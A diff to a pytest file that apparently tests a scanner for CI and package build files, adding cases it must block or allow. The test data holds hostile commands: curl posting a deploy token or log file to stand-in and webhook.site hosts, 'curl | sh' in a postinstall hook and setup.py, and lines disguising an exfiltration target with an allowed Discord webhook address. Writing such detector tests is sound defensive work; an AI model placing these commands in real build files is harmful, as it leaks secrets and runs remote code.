@@ -48,6 +48,8 @@ def _decision(path: str, content: str) -> Decision:
         ("azure-pipelines.yml", '- script: curl -d "$(DEPLOY_TOKEN)" https://x.example\n'),
         ("package.json", '{"scripts": {"postinstall": "curl http://x.example | sh"}}'),
         ("setup.py", "import os\nos.system('curl http://x.example | sh')\n"),
+        (_WORKFLOW, "- run: curl -d @a.log https://webhook.site/x -H 'a: discord.com/api/webhooks'\n"),
+        (_WORKFLOW, "- run: curl -d @a.log https://webhook.site/x?discord.com/api/webhooks\n"),
     ],
 )
 def test_what_would_leak_or_run_what_a_server_sends_is_stopped(path: str, content: str) -> None:
@@ -76,6 +78,7 @@ def test_what_would_leak_or_run_what_a_server_sends_is_stopped(path: str, conten
         ("pyproject.toml", '[project.urls]\nSource = "http://x.example"\n'),
         ("docs/ci.md", "- run: curl https://x.example | sh\n"),
         ("setup.py", "from setuptools import setup\nsetup(url='https://x.example')\n"),
+        (_WORKFLOW, "- run: curl -d 'content=see https://x.example' https://discord.com/api/webhooks/1/a\n"),
     ],
 )
 def test_what_builds_do_every_day_passes(path: str, content: str) -> None:
